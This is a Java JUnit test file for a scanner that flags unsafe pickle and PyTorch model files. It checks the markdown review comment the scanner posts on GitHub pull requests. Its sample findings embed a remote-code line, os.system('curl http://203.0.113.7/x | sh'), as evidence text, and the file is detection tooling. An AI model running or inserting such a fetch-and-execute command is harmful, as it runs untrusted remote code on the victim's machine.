package org.modelscan.github;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.modelscan.policy.Context;
import org.modelscan.policy.Decision;
import org.modelscan.policy.Digests;
import org.modelscan.policy.Policy;
import org.modelscan.rule.Finding;
import org.modelscan.rule.Place;
import org.modelscan.rule.RuleId;
import org.modelscan.rule.Rules;
import org.modelscan.scan.Outcome;
import org.modelscan.scan.Report;
import org.modelscan.scan.Result;

/**
 * The page for reviewers. Run with {@code -Dgolden.update=true} to write the expected ones anew.
 */
class PageTest {
  private static final Path EXPECTED = Path.of("src/test/resources/org/modelscan/github");
  private static final Rules RULES = new Rules();
  private static final Digests DIGESTS =
      path -> path.endsWith(".pkl") ? Optional.of("ab".repeat(32)) : Optional.empty();

  private static Finding finding(RuleId rule, String path, List<String> members, String symbol) {
    return new Finding(
        RULES.get(rule),
        new Place(path, members, 27),
        symbol,
        "calls " + symbol + " when it is loaded",
        symbol + "('curl http://203.0.113.7/x | sh')");
  }

  private static Result result(String path, String format, Outcome outcome, Finding... findings) {
    return new Result(path, format, outcome, List.of(findings), List.of(), 4_200_000);
  }

  private static Decision decision(List<Result> results) {
    return Policy.DEFAULT.decide(
        new Report(results, 3_481, Duration.ofMillis(412)),
        new Context(path -> !path.startsWith("old/"), DIGESTS, LocalDate.EPOCH, false));
  }

  private static Decision mixed() {
    return decision(
        List.of(
            result(
                "models/churn.pkl",
                "pickle",
                new Outcome.Complete(),
                finding(RuleId.PICKLE_RUNS_COMMAND, "models/churn.pkl", List.of(), "os.system")),
            result(
                "models/net.pt",
                "torch-zip",
                new Outcome.Complete(),
                finding(
                    RuleId.PICKLE_UNKNOWN_IMPORT,
                    "models/net.pt",
                    List.of("net/data.pkl"),
                    "mycompany.Net")),
            result("models/big.bin", "git-lfs", new Outcome.NotScanned("Git LFS pointer (4.2 GB)")),
            result(
                "old/before.pkl",
                "pickle",
                new Outcome.Complete(),
                finding(RuleId.PICKLE_RUNS_CODE, "old/before.pkl", List.of(), "builtins.exec"))));
  }

  private static Page page(Decision decision, List<ModelRow> models, List<String> changes) {
    return new Page(
        decision,
        true,
        models,
        Acceptance.entries(Page.acceptable(decision), DIGESTS),
        changes,
        List.of());
  }

  private static List<ModelRow> models() {
    return List.of(
        new ModelRow(
            "models/churn.pkl",
            "pickle",
            4_200_000,
            List.of(new Brief.Clause("2 imports", "os.system, sklearn.tree._tree.Tree")),
            new ModelRow.Change.Changed(
                Optional.of("models/churn-1.pkl"),
                4_100_000,
                Optional.empty(),
                List.of("os.system"),
                List.of())),
        new ModelRow("models/net.pt", "torch-zip", 123, List.of(), new ModelRow.Change.Added()));
  }

  private static void golden(String name, String page) throws IOException {
    Path file = EXPECTED.resolve(name);
    if (Boolean.getBoolean("golden.update")) {
      Files.writeString(file, page);
    }
    assertThat(page).isEqualTo(Files.readString(file));
  }

  @Test
  void findings() throws IOException {
    List<String> changes = List.of("MUCH WEAKER: fail-on: high becomes never");
    golden("comment-findings.md", page(mixed(), models(), changes).markdown(60_000));
  }

  @Test
  void notScanned() throws IOException {
    Decision decision = decision(mixed().scan().results().subList(2, 4));
    golden("comment-not-scanned.md", page(decision, List.of(), List.of()).markdown(60_000));
  }

  @Test
  void nothingNew() throws IOException {
    Decision decision = decision(mixed().scan().results().subList(3, 4));
    Page page = page(decision, List.of(), List.of());
    assertThat(page.hasFindings()).isFalse();
    golden("comment-nothing-new.md", page.markdown(60_000));
  }

  @Test
  void whatIsNotReadIsNeverCalledClean() {
    Policy lenient = new Policy(Policy.DEFAULT.failOn(), Policy.DEFAULT.minimum(), false);
    Decision decision = lenient.decide(notReadOnly(), Context.NONE);
    String page = page(decision, List.of(), List.of()).markdown(9_000);
    assertThat(page).startsWith("**Nothing was found in what could be read.**");
    assertThat(page).contains("### Not scanned, or not all of it");
  }

  private static Report notReadOnly() {
    return decision(mixed().scan().results().subList(2, 3)).scan();
  }

  @Test
  void clean() throws IOException {
    Decision decision = decision(List.of(result("a.pkl", "pickle", new Outcome.Complete())));
    golden("comment-clean.md", page(decision, models().subList(1, 2), List.of()).markdown(60_000));
  }

  @ParameterizedTest
  @ValueSource(ints = {5_000, 30_000, 64_000})
  void roomIsKeptAndWhatIsLeftOutIsCounted(int room) {
    String nasty = "`|<@\u202e&".repeat(200);
    List<Result> results = new ArrayList<>();
    List<ModelRow> models = new ArrayList<>();
    for (int i = 0; i < 400; i++) {
      String path = nasty + i + (i % 2 == 0 ? ".pkl" : "");
      results.add(
          result(
              path,
              "pickle",
              i % 3 == 0 ? new Outcome.Incomplete(nasty) : new Outcome.Complete(),
              finding(RuleId.PICKLE_RUNS_COMMAND, path, List.of(nasty), nasty)));
      models.add(
          new ModelRow(
              path,
              "pickle",
              i,
              List.of(new Brief.Clause("9 imports", nasty)),
              new ModelRow.Change.Added()));
    }
    String page =
        page(decision(results), models, List.of("weaker: " + nasty, "x".repeat(5_000)))
            .markdown(room);
    assertThat(page).hasSizeLessThan(room + 1);
    assertThat(page.lines().filter(line -> line.startsWith("<details>")).count())
        .isEqualTo(page.lines().filter(line -> line.equals("</details>")).count());
    assertThat(page).contains(" more findings.");
  }
}
